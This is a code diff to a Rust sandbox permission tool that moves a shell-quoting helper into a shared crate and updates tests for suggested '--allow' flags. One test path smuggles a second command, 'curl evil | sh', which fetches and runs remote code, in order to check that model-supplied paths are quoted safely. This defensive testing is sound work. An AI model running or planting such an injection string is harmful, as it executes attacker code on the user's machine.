@@ -1,5 +1,6 @@
 //! Suggests rules that would allow a denied call. Each is evaluated before it is suggested.
 
+use plimsoll_config::shell_quoted;
 use plimsoll_sandbox::{Action, EffectiveRules, Origin, PermissionRequest, PermissionRule, Permissions};
 use serde_json::Value;
 
@@ -133,6 +134,7 @@ fn with_rule(rules: &Permissions, general: usize, candidate: &PermissionRule, la
     rules
 }
 
+/// Returns the flag of a rule, quoted for a shell: the path or command comes from a model.
 fn flag_for(rule: &PermissionRule) -> String {
     match rule.pattern.as_str() {
         "*" => format!("--allow {}", rule.tool),
@@ -204,11 +206,6 @@ fn key(name: &str) -> String {
     if is_bare { name.to_owned() } else { quoted(name) }
 }
 
-/// The path or command comes from a model, and the user may paste the flag into a shell.
-fn shell_quoted(text: &str) -> String {
-    format!("'{}'", text.replace('\'', "'\\''"))
-}
-
 #[cfg(test)]
 mod tests {
     use std::path::Path;
@@ -226,14 +223,14 @@ mod tests {
             PermissionRule::suggested_for(request)
         };
         let evil = path("/tmp/a'; curl evil | sh; '/b");
-        assert_eq!(flag_for(&rule("read", &evil)), "--allow 'read:/tmp/a'\\''; curl evil | sh; '\\''/b'");
+        assert_eq!(flag_for(&rule("read", &evil)), "--allow \"read:/tmp/a'; curl evil | sh; '/b\"");
         let cargo = rule("bash", &command("cargo test -q"));
         assert_eq!(flag_for(&cargo), "--allow 'bash:cargo test *'");
         assert_eq!(setting_for("permissions", &cargo), "permissions.bash.\"cargo test *\" = \"allow\"");
         assert_eq!(flag_for(&rule("bash", &command("a; b"))), "--allow 'bash:a; b'");
         // `git log *` would also allow `git log --output=.git/config`, and `plimsoll run` does not ask again.
         assert_eq!(flag_for(&rule("bash", &command("git log -3"))), "--allow 'bash:git log -3'");
-        assert_eq!(flag_for(&rule("write", &path("/project/src/a.rs"))), "--allow 'write:src/a.rs'");
+        assert_eq!(flag_for(&rule("write", &path("/project/src/a.rs"))), "--allow write:src/a.rs");
         let page = Subject::Address("https://example.org/a?b=c".into());
         assert_eq!(flag_for(&rule("webfetch", &page)), "--allow 'webfetch:https://example.org/*'");
     }
